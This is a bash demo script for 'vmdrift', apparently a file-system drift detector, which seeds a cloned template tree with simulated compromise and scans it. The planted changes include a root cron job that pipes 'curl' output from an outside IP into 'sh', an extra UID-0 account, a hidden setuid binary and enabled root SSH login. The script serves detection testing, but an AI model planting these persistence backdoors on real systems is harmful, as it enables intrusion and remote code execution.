#!/usr/bin/env bash
# Install, build, and show vmdrift at work on a demo: a template tree, its
# baseline, a drifted clone of it, and the drift report.
set -euo pipefail
cd "$(dirname "$0")/.."

bash scripts/setup.sh >/dev/null
cmake -S . -B build -DCMAKE_BUILD_TYPE=RelWithDebInfo -DVD_TESTS=OFF >/dev/null
cmake --build build -j"$(nproc)" >/dev/null
vd=build/cli/vmdrift

demo=$(mktemp -d /tmp/vmdrift-demo.XXXXXX)
tmpl=$demo/template clone=$demo/web-042
echo "== building a template root file system in $tmpl"
mkdir -p "$tmpl"/{etc/ssh,etc/cron.d,usr/bin,usr/sbin,var/log,home/alice,root}
printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n' >"$tmpl/etc/passwd"
printf 'root:x:0:\nwww-data:x:33:\nalice:x:1000:\n' >"$tmpl/etc/group"
printf 'Port 22\nPermitRootLogin no\nPasswordAuthentication no\n' >"$tmpl/etc/ssh/sshd_config"
printf 'template\n' >"$tmpl/etc/hostname"
printf '127.0.0.1 localhost\n' >"$tmpl/etc/hosts"
cp /bin/ls "$tmpl/usr/bin/ls"
cp /bin/cat "$tmpl/usr/bin/cat"
cp /usr/bin/passwd "$tmpl/usr/bin/passwd" && chmod 4755 "$tmpl/usr/bin/passwd"
ln -s /usr/bin/ls "$tmpl/usr/bin/dir"
printf 'boot ok\n' >"$tmpl/var/log/boot.log"
chown -R 1000:1000 "$tmpl/home/alice"
setfattr -n user.origin -v golden-image "$tmpl/etc/hosts"

echo "== capturing the template's baseline"
$vd baseline capture --dir "$tmpl" -o "$demo/template.vdb"

echo "== cloning it to $clone and letting it drift"
cp -a "$tmpl" "$clone"
printf 'Port 22\nPermitRootLogin yes\nPasswordAuthentication no\n' >"$clone/etc/ssh/sshd_config"
printf 'toor:x:0:0::/root:/bin/bash\n' >>"$clone/etc/passwd"
cp /bin/cat "$clone/usr/sbin/.hidden" && chmod 4755 "$clone/usr/sbin/.hidden"
printf '* * * * * root curl -s http://198.51.100.7/x | sh\n' >"$clone/etc/cron.d/update"
chown 1000 "$clone/usr/bin/ls"
ln -sfn /tmp/evil "$clone/usr/bin/dir"
setfattr -n user.origin -v unknown "$clone/etc/hosts"
rm "$clone/var/log/boot.log"

echo "== scanning the clone against the template's baseline"
echo "   (a copied tree has new inodes and ctimes, so those are ignored here;"
echo "    a clone of a disk image keeps them and needs no --ignore)"
echo
set +e
$vd scan --baseline "$demo/template.vdb" --dir "$clone" --ignore ctime,inode --report text \
  --report json:"$demo/drift.json"
rc=$?
set -e
echo
echo "exit code $rc (0 no drift, 1 drift, 2 usage error, 3 runtime error)"
echo "ND-JSON events for a SIEM: $demo/drift.json ($(wc -l <"$demo/drift.json") lines)"
